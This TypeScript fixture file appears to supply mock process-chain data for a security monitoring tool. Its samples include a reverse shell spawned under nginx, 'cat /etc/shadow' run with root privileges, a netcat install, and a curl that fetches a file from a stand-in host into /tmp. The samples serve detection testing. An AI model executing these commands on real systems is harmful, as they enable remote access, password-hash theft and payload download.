// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import type { ResponseOf, SecurityEvent } from '@bartizan/contracts';
import { HOUR_MS, MINUTE_MS, NOW_MS } from './random.ts';

type Chain = NonNullable<SecurityEvent['chain']>;
type Process = Chain['process'];

const process = (
  pid: number,
  parentPid: number,
  words: readonly string[],
  more: Partial<Process> = {},
): Process => {
  const executable = words[0] ?? '';
  return {
    pid,
    parentPid,
    startBootUs: pid * 1_000,
    name: executable.split('/').at(-1) ?? executable,
    executable,
    arguments: [...words],
    argumentsTruncated: false,
    argumentsRedacted: words.some((word) => word.includes('***')),
    cwd: '/',
    uid: 101,
    euid: 101,
    ...more,
  };
};

const NGINX = process(4_200, 4_180, ['/usr/sbin/nginx', '-g', 'daemon off;'], { uid: 0, euid: 0 });
const PYTHON = process(4_311, 4_200, ['/usr/bin/python3', '/srv/app/upload.py', '--token=***']);
const INIT = process(1, 0, ['/sbin/init'], { uid: 0, euid: 0 });

const CHAINS = {
  'reverse-shell': {
    process: process(4_402, 4_311, ['/bin/bash', '-i'], { stdio: ['socket', 'socket', 'socket'] }),
    ancestors: [PYTHON, NGINX],
    complete: true,
  },
  'package-manager': {
    process: process(5_120, 5_100, ['/usr/bin/apt-get', 'install', '-y', 'netcat-openbsd'], {
      uid: 0,
      euid: 0,
    }),
    ancestors: [process(5_100, 5_001, ['/bin/sh', '-c', './build.sh'], { uid: 0, euid: 0 })],
    complete: false,
  },
  cat: {
    process: process(812, 790, ['/usr/bin/cat', '/etc/shadow'], { uid: 1_000, euid: 0 }),
    ancestors: [process(790, 1, ['/bin/bash', '-l'], { uid: 1_000, euid: 1_000, interactive: true }), INIT],
    complete: true,
  },
  shell: {
    process: process(6_010, 6_000, ['/bin/sh'], {
      interactive: true,
      stdio: ['tty', 'tty', 'tty'],
      upperLayer: true,
    }),
    ancestors: [process(6_000, 1, ['/usr/local/bin/node', 'server.js'])],
    complete: true,
  },
} as const satisfies Record<string, unknown>;

/** A process with its ancestors. */
export const chainOf = (name: keyof typeof CHAINS): Chain => {
  const { process: own, ancestors, complete } = CHAINS[name];
  return { process: own, ancestors: [...ancestors], complete };
};

type Row = ResponseOf<'workload.processes'>['items'][number];
const row = (own: Process, running: boolean, count = 1): Row => ({
  process: own,
  running,
  firstAtMs: NOW_MS - 5 * HOUR_MS + own.pid * 100,
  lastAtMs: NOW_MS - MINUTE_MS,
  count,
});

/** Processes of a workload. */
export const PROCESS_ROWS: readonly Row[] = [
  row(NGINX, true),
  row(process(4_205, 4_200, ['/usr/sbin/nginx', 'worker process']), true),
  row(process(4_206, 4_200, ['/usr/sbin/nginx', 'worker process']), true),
  row(PYTHON, true),
  row(CHAINS['reverse-shell'].process, true),
  row(process(4_410, 4_402, ['/usr/bin/id']), false, 3),
  row(process(4_415, 4_402, ['/usr/bin/curl', '-sS', 'http://203.0.113.9/x', '-o', '/tmp/x']), false),
];
